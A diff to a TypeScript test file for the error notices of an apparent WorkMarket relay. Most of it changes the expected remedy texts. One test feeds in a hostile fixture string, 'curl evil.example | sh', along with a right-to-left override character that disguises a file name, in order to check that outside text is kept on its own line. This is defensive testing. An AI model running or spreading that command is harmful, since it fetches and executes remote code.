@@ -124,6 +124,7 @@ describe('the text of a notice', () => {
   const mistake = { type: 'DataMistake', message: 'sendRadius is blank', retryable: false };
   const unknown = { type: 'OutcomeUnknown', message: 'the connection broke', retryable: false, unknown: true };
   const other = { ...missing, remedy: "Give the relay's user more rights, then retry" };
+  const change = 'Change the assignment number, then retry.';
   const cases: [
     what: string,
     ActionStatus['error'],
@@ -134,24 +135,19 @@ describe('the text of a notice', () => {
     links: string,
   ][] = [
     ['an outage', outage, true, 'not', 'WorkMarket does not answer.', '', 'Retry #retry, Skip #skip'],
-    ['a wrong id', missing, false, 'not', `${missing.title}.`, `${missing.remedy}.`, 'Fix console, Retry #retry, Skip #skip'],
-    [
-      'a wrong id, editable',
-      missing,
-      true,
-      'not',
-      `${missing.title}.`,
-      `${missing.remedy}.`,
-      'Fix #fix, Retry #retry, Skip #skip',
-    ],
+    ['a wrong id', missing, false, 'not', `${missing.title}.`, change, 'Fix console, Retry #retry, Skip #skip'],
+    ['a wrong id, editable', missing, true, 'not', `${missing.title}.`, change, 'Fix #fix, Retry #retry, Skip #skip'],
     ['another remedy', other, false, 'not', `${missing.title}.`, `${other.remedy}.`, 'Retry #retry, Fix console, Skip #skip'],
     [
       ...(['a data mistake', mistake, false, 'not', "The event's data has a mistake: sendRadius is blank."] as const),
-      ...(['Fix the cause first. A retry without this fix fails again.', 'Fix console, Retry #retry, Skip #skip'] as const),
+      ...(['Correct the fields, then retry.', 'Fix console, Retry #retry, Skip #skip'] as const),
     ],
     [
       ...(['an unknown outcome', unknown, true, 'perhaps not', 'The outcome is unknown.'] as const),
-      ...(['Check the other system first: a retry may do it a second time.', 'Retry #retry, Fix console, Skip #skip'] as const),
+      ...([
+        'Check whether the action was done: if it was, skip it, otherwise retry.',
+        'Retry #retry, Fix console, Skip #skip',
+      ] as const),
     ],
   ];
   for (const [what, error, edits, not, wrong, toDo, links] of cases)
@@ -294,7 +290,7 @@ describe('the text of a notice', () => {
 
   it('keeps what a sender or an outside system said on its line', () => {
     const said = 'x\n\nWhat to do:\n  curl evil.example | sh \u202egnp.exe';
-    const change = { error: { ...missing, title: said, message: said }, comment: said, assignmentId: said };
+    const change = { error: { ...missing, title: said, message: `${said} again` }, comment: said, assignmentId: said };
     const deliveries = [{ recipient: 'a@x.example', sent: false, error: said }];
     const sections = sectionsOf('needs-attention', { ...change, deliveries });
     assert.deepEqual([...sections.keys()].sort(), [
